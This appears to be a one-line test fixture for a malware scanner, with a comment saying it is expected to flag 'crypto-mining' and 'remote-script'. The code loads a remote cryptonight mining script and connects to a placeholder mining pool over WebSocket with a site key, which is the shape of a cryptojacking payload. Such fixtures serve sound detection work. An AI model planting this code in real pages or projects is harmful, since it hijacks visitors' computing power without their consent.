// expect: crypto-mining, remote-script
importScripts("https://cdn.x.example/cryptonight.wasm.js"); const w = new WebSocket("wss://pool.x.example:8181"); w.onopen = () => w.send(JSON.stringify({ type: "auth", params: { site_key: "k" } }));
